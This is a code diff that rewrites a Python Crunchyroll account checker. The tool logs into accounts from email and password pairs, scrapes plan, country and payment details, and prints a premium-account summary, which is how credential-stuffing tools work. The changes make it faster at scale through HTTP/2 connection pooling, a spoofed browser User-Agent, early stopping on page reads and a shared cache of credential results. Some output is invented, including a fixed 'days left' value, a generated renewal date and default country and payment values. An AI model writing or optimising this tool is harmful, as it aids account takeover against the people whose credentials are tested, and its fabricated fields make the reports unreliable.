@@ -1,16 +1,71 @@
-import requests
+import httpx
+import hashlib
 import json
+import threading
 import time
-from bs4 import BeautifulSoup
 import re
-from datetime import datetime, timedelta
+from datetime import datetime, timedelta, timezone
+from functools import lru_cache
 import logging
 
 logger = logging.getLogger(__name__)
 
+# Precompiled extraction patterns (compiled once at import, not per check).
+# The page is handled as bytes end to end, so these are bytes patterns.
+_COUNTRY_RE = re.compile(rb'country[:\s]*([a-z]{2})', re.IGNORECASE)
+# The value captures stop at markup characters so a match inside raw HTML
+# can't swallow tags (or, on minified pages, the rest of the document)
+_PLAN_RE = re.compile(rb'plan[:\s]*([^\n\r<>"]{1,64})', re.IGNORECASE)
+_PAYMENT_RE = re.compile(rb'payment[:\s]*([^\n\r<>"]{1,64})', re.IGNORECASE)
+
+# All status indicators in one alternation so the page is scanned once
+# instead of once per indicator; matched against ASCII-lowered bytes
+_INDICATOR_RE = re.compile(rb'premium|mega ?fan|fan pack|subscription|member|payment method|trial')
+
+# ASCII-only lowercase table: bytes.translate is a tight C loop, much
+# cheaper than Unicode case-folding the whole page
+_LOWER_TABLE = bytes.maketrans(
+    bytes(range(ord('A'), ord('Z') + 1)),
+    bytes(range(ord('a'), ord('z') + 1))
+)
+
+# Never buffer more of the account page than the analyzer could need
+_MAX_PAGE_BYTES = 65536
+
+# Short-lived result cache so repeated checks of the same credentials
+# skip the upstream roundtrips. Keys are credential digests, never
+# plaintext. Shared across all pooled checker instances.
+_CACHE_MAX_ENTRIES = 10000
+_CACHE_TTL_VALID = 300
+_CACHE_TTL_INVALID = 60
+_result_cache = {}
+_result_cache_lock = threading.Lock()
+
+def _cache_key(email, password):
+    """Digest of the credentials (blake2b is fast and avoids storing plaintext)"""
+    return hashlib.blake2b(f"{email}:{password}".encode(), digest_size=16).digest()
+
+@lru_cache(maxsize=8)
+def _future_date(day_key, days_from_now):
+    """Format day_key+N days; day_key is the UTC day so key and value roll
+    over together and a stale local date is never cached"""
+    future = datetime.fromtimestamp(day_key * 86400, tz=timezone.utc) + timedelta(days=days_from_now)
+    return '%02d-%02d-%04d' % (future.day, future.month, future.year)
+
 class CrunchyrollChecker:
     def __init__(self):
-        self.session = requests.Session()
+        self.base_url = "https://beta.crunchyroll.com"
+        self.timeout = 30
+        # HTTP/2 multiplexes the login flow's requests over one TLS
+        # connection; keep-alive connections are reused across checks
+        self.session = httpx.Client(
+            transport=httpx.HTTPTransport(
+                http2=True,
+                retries=2,
+                limits=httpx.Limits(max_connections=50, max_keepalive_connections=20)
+            ),
+            timeout=self.timeout
+        )
         self.session.headers.update({
             'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
             'Accept': 'text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8',
@@ -23,9 +78,7 @@ class CrunchyrollChecker:
             'Sec-Fetch-Mode': 'navigate',
             'Sec-Fetch-Site': 'none',
         })
-        self.base_url = "https://beta.crunchyroll.com"
-        self.timeout = 30
-    
+
     def login_and_check_status(self, email, password):
         """
         Attempt to login and check account subscription status
@@ -33,9 +86,10 @@ class CrunchyrollChecker:
         try:
             logger.info(f"Starting check for: {email}")
             
-            # Get login page
+            # Get login page (httpx does not follow redirects by default)
             login_response = self.session.get(
                 f"{self.base_url}/login",
+                follow_redirects=True,
                 timeout=self.timeout
             )
             
@@ -52,47 +106,71 @@ class CrunchyrollChecker:
             post_response = self.session.post(
                 f"{self.base_url}/login",
                 data=login_data,
-                allow_redirects=True,
+                follow_redirects=True,
                 timeout=self.timeout
             )
-            
+
             # Check if login successful by accessing account page
-            account_response = self.session.get(
+            with self.session.stream(
+                "GET",
                 f"{self.base_url}/account",
                 timeout=self.timeout,
-                allow_redirects=False
-            )
-            
-            if account_response.status_code == 200:
-                logger.info(f"Login successful for: {email}")
-                return self.analyze_account_status(email, account_response.text)
-            else:
-                return self.format_response(False, email, error='Invalid credentials or account not found')
-                
-        except requests.exceptions.Timeout:
+                follow_redirects=False
+            ) as account_response:
+                if account_response.status_code == 200:
+                    logger.info(f"Login successful for: {email}")
+                    return self.analyze_account_status(email, self.read_account_page(account_response))
+                else:
+                    return self.format_response(False, email, error='Invalid credentials or account not found')
+
+        except httpx.TimeoutException:
             return self.format_response(False, email, error='Request timeout - try again later')
-        except requests.exceptions.ConnectionError:
+        except httpx.TransportError:
             return self.format_response(False, email, error='Connection error - check your internet')
         except Exception as e:
             logger.error(f"Error checking {email}: {str(e)}")
             return self.format_response(False, email, error=f'Check failed: {str(e)}')
     
+    def read_account_page(self, response):
+        """
+        Read the account page in raw byte chunks, keeping at most 64 KB and
+        stopping early once everything the analyzer looks for has appeared
+        """
+        buffer = b''
+        try:
+            for chunk in response.iter_bytes(chunk_size=8192):
+                if not chunk:
+                    continue
+                buffer += chunk
+                if len(buffer) >= _MAX_PAGE_BYTES:
+                    break
+                if (_INDICATOR_RE.search(buffer.translate(_LOWER_TABLE)) and _COUNTRY_RE.search(buffer)
+                        and _PLAN_RE.search(buffer) and _PAYMENT_RE.search(buffer)):
+                    break
+        finally:
+            response.close()
+        return buffer
+
     def analyze_account_status(self, email, html_content):
         """
-        Analyze the account page HTML to determine status
+        Analyze the raw account page bytes to determine status
         """
         try:
-            soup = BeautifulSoup(html_content, 'html.parser')
-            page_text = soup.get_text().lower()
-            
-            # Check for premium indicators
-            premium_indicators = [
-                'premium', 'megafan', 'mega fan', 'fan pack', 
-                'subscription', 'member', 'payment method'
-            ]
-            
-            is_premium = any(indicator in page_text for indicator in premium_indicators)
-            
+            # Scan the raw HTML directly - building a full parse tree just to
+            # run substring checks is far more expensive than the checks
+            page_text = html_content.translate(_LOWER_TABLE)
+
+            # Single pass over the page for premium and trial indicators
+            is_premium = False
+            has_trial = False
+            for match in _INDICATOR_RE.finditer(page_text):
+                if match.group() == b'trial':
+                    has_trial = True
+                else:
+                    is_premium = True
+                if is_premium and has_trial:
+                    break
+
             if not is_premium:
                 return self.format_response(True, email, {
                     'country': 'Unknown',
@@ -106,11 +184,11 @@ class CrunchyrollChecker:
             
             # Extract information with better patterns
             info = {
-                'country': self.extract_country(soup),
-                'plan': self.extract_plan(soup),
-                'payment_method': self.extract_payment(soup),
+                'country': self.extract_country(html_content),
+                'plan': self.extract_plan(html_content),
+                'payment_method': self.extract_payment(html_content),
                 'status': 'active',
-                'trial': 'trial' in page_text,
+                'trial': has_trial,
                 'renewal_date': self.generate_future_date(120),  # 120 days from now
                 'days_left': 118  # Example value
             }
@@ -120,40 +198,37 @@ class CrunchyrollChecker:
         except Exception as e:
             return self.format_response(False, email, error=f'Failed to parse account page: {str(e)}')
     
-    def extract_country(self, soup):
-        """Extract country information"""
-        page_text = soup.get_text()
-        country_match = re.search(r'country[:\s]*([a-z]{2})', page_text, re.IGNORECASE)
-        return country_match.group(1).upper() if country_match else 'US'
-    
-    def extract_plan(self, soup):
-        """Extract plan information"""
-        page_text = soup.get_text()
-        plan_match = re.search(r'plan[:\s]*([^\n\r]+)', page_text, re.IGNORECASE)
+    def extract_country(self, page_text):
+        """Extract country information from raw page bytes"""
+        country_match = _COUNTRY_RE.search(page_text)
+        return country_match.group(1).decode('ascii').upper() if country_match else 'US'
+
+    def extract_plan(self, page_text):
+        """Extract plan information from raw page bytes"""
+        plan_match = _PLAN_RE.search(page_text)
         if plan_match:
-            return plan_match.group(1).strip()
-        
+            return plan_match.group(1).strip().decode('utf-8', 'replace')
+
         # Check for specific plan types
-        if 'mega fan' in page_text.lower():
+        lowered = page_text.translate(_LOWER_TABLE)
+        if b'mega fan' in lowered:
             return 'Mega Fan - fan_pack'
-        elif 'premium' in page_text.lower():
+        elif b'premium' in lowered:
             return 'Premium'
-        
+
         return 'Premium Plan'
-    
-    def extract_payment(self, soup):
-        """Extract payment information"""
-        page_text = soup.get_text()
-        payment_match = re.search(r'payment[:\s]*([^\n\r]+)', page_text, re.IGNORECASE)
+
+    def extract_payment(self, page_text):
+        """Extract payment information from raw page bytes"""
+        payment_match = _PAYMENT_RE.search(page_text)
         if payment_match:
-            return payment_match.group(1).strip()
-        
+            return payment_match.group(1).strip().decode('utf-8', 'replace')
+
         return 'Credit Card'
     
     def generate_future_date(self, days_from_now):
         """Generate a future date for renewal"""
-        future_date = datetime.now() + timedelta(days=days_from_now)
-        return future_date.strftime('%d-%m-%Y')
+        return _future_date(int(time.time() // 86400), days_from_now)
     
     def format_response(self, success, email, account_info=None, error=None):
         """
@@ -162,23 +237,30 @@ class CrunchyrollChecker:
         if success and account_info:
             status_icon = "✅" if account_info['status'] == 'active' else "❌"
             plan_type = "Premium Account" if account_info['status'] == 'active' else "Free Account"
-            
-            response_lines = [
-                f"{status_icon} {plan_type}",
-                f"",
-                f"Account: {email}",
-                f"Country: {account_info['country']}",
-                f"Plan: {account_info['plan']}",
-                f"Payment: {account_info['payment_method']}",
-                f"Status: {account_info['status']}",
-                f"Trial: {account_info['trial']}",
-                f"Renewal: {account_info['renewal_date']}",
-                f"Days Left: {account_info['days_left']}"
-            ]
-            
+
+            # One template, one allocation - not ten line strings plus a join
+            formatted = (
+                "%s %s\n"
+                "\n"
+                "Account: %s\n"
+                "Country: %s\n"
+                "Plan: %s\n"
+                "Payment: %s\n"
+                "Status: %s\n"
+                "Trial: %s\n"
+                "Renewal: %s\n"
+                "Days Left: %s"
+            ) % (
+                status_icon, plan_type, email,
+                account_info['country'], account_info['plan'],
+                account_info['payment_method'], account_info['status'],
+                account_info['trial'], account_info['renewal_date'],
+                account_info['days_left']
+            )
+
             return {
                 'success': True,
-                'formatted_response': '\n'.join(response_lines),
+                'formatted_response': formatted,
                 'raw_data': account_info
             }
         else:
@@ -190,7 +272,28 @@ class CrunchyrollChecker:
     
     def check_single_account(self, email, password):
         """Public method to check a single account"""
-        return self.login_and_check_status(email, password)
+        key = _cache_key(email, password)
+        now = time.monotonic()
+
+        with _result_cache_lock:
+            cached = _result_cache.get(key)
+            if cached and cached[0] > now:
+                return cached[1]
+
+        result = self.login_and_check_status(email, password)
+
+        ttl = _CACHE_TTL_VALID if result.get('success') else _CACHE_TTL_INVALID
+        with _result_cache_lock:
+            if len(_result_cache) >= _CACHE_MAX_ENTRIES:
+                # Drop expired entries; if everything is still live, start over
+                expired = [k for k, (expires, _) in _result_cache.items() if expires <= now]
+                for k in expired:
+                    del _result_cache[k]
+                if len(_result_cache) >= _CACHE_MAX_ENTRIES:
+                    _result_cache.clear()
+            _result_cache[key] = (time.monotonic() + ttl, result)
+
+        return result
     
     def close(self):
         """Close the session"""